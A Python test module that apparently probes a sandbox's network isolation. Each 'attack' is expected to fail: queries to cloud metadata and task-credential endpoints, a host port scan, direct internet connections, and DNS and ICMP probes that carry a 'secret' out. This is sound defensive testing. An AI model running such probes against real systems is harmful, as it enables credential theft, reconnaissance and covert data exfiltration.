"""Metadata addresses, services of the host, and ways to the internet that go past the proxy."""

import socket
from contextlib import suppress

from .base import Stopped, World, attack, control
from .wire import NO_ANSWER_S, connect, http

_NOWHERE = "ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|TimeoutError|ETIMEDOUT|EPERM|EADDRNOTAVAIL|timed out"
_SCANNED = [*range(1, 1025), 2375, 2376, 3306, 5000, 5432, 6379, 8000, 8080, 9000, 9200, 10250, 11211, 27017]
_QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01"


def datagram(host: str, port: int, data: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as here:
        here.settimeout(NO_ANSWER_S)
        here.connect((host, port))
        here.send(data)
        return f"{host}:{port} said {here.recv(100)!r}"


@control("host-gateway", "the gateway answers at the host's address")
def gateway(world: World) -> str:
    assert http(world, "GET", "/healthz").status == 200
    return "healthy"


@attack("metadata-aws", "asks the cloud's metadata service", stopped=_NOWHERE)
def aws(world: World) -> str:
    return connect("169.254.169.254", 80, say=b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")


@attack("metadata-ecs", "asks for the credentials of the machine's task", stopped=_NOWHERE)
def ecs(world: World) -> str:
    return connect("169.254.170.2", 80)


@attack("metadata-other", "asks another provider's metadata service", stopped=_NOWHERE)
def other_cloud(world: World) -> str:
    return connect("100.100.100.200", 80)


@attack("metadata-v6", "asks the metadata service by IPv6", stopped=_NOWHERE)
def metadata_v6(world: World) -> str:
    return connect("fd00:ec2::254", 80)


@attack("host-service", "reaches a service of the host at the bridge", stopped=_NOWHERE)
def service(world: World) -> str:
    return connect(world["bridge"], world["closed_port"])


@attack("host-addresses", "reaches a service of the host at any other address", stopped="none of [1-9]")
def addresses(world: World) -> str:
    for address in world["host_addresses"]:
        with suppress(OSError):
            return connect(address, world["closed_port"], timeout_s=0.5)
    raise Stopped(f"none of {len(world['host_addresses'])} addresses")


@attack("host-scan", "finds any port open but the gateway's and the proxy's", stopped="no port of [1-9]")
def scan(world: World) -> str:
    known = {world["gateway"][1], world["egress"][1]}
    ports = [port for port in [*_SCANNED, world["closed_port"]] if port not in known]
    found = []
    for port in ports:
        with suppress(OSError), socket.create_connection((world["bridge"], port), timeout=0.3):
            found.append(port)
    if found:
        return f"open: {found}"
    raise Stopped(f"no port of {len(ports)} is open")


@attack("host-datagram", "reaches a service of the host by UDP", stopped=_NOWHERE)
def udp(world: World) -> str:
    return datagram(world["bridge"], world["udp_port"], b"?")


@attack("host-other-bridge", "reaches the gateway by another project's address", stopped=_NOWHERE)
def other_bridge(world: World) -> str:
    host, port = world["neighbour_bridge"], world["gateway"][1]
    return connect(host, port, say=b"GET /healthz HTTP/1.0\r\n\r\n")


@attack(
    "host-abstract-socket",
    "reaches a service of the host by an abstract socket",
    stopped="ECONNREFUSED",
    control="host",
)
def abstract(world: World) -> str:
    with socket.socket(socket.AF_UNIX) as here:
        here.connect("\0" + world["abstract_socket"])
        return "connected"


@attack("direct-address", "reaches the internet without the proxy", stopped=_NOWHERE)
def direct(world: World) -> str:
    return connect("1.1.1.1", 443)


@attack("direct-v6", "reaches the internet by IPv6", stopped=_NOWHERE)
def direct_v6(world: World) -> str:
    return connect("2606:4700:4700::1111", 443)


@attack("direct-dns", "sends a secret out in the names it asks a name server for", stopped=_NOWHERE)
def dns(world: World) -> str:
    return datagram("8.8.8.8", 53, _QUERY)


@attack("direct-dns-tcp", "does so by TCP", stopped=_NOWHERE)
def dns_tcp(world: World) -> str:
    return connect("8.8.8.8", 53, say=len(_QUERY).to_bytes(2, "big") + _QUERY)


@attack("direct-resolver", "does so by the machine's own resolver", stopped="gaierror|EAI|-[235]")
def resolver(world: World) -> str:
    return str(socket.getaddrinfo("secret.example.com", 443)[0][4])


# EACCES: a daemon that maps users does not open the socket of pings to them.
@attack("direct-ping", "sends a secret out in pings", stopped=f"{_NOWHERE}|EACCES")
def ping(world: World) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as here:
        here.settimeout(NO_ANSWER_S)
        here.sendto(b"\x08\x00" + (0xFFFF - 0x0800 - 0x0001).to_bytes(2, "big") + b"\x00\x00\x00\x01", ("1.1.1.1", 0))
        return f"{len(here.recv(100))} bytes came back"
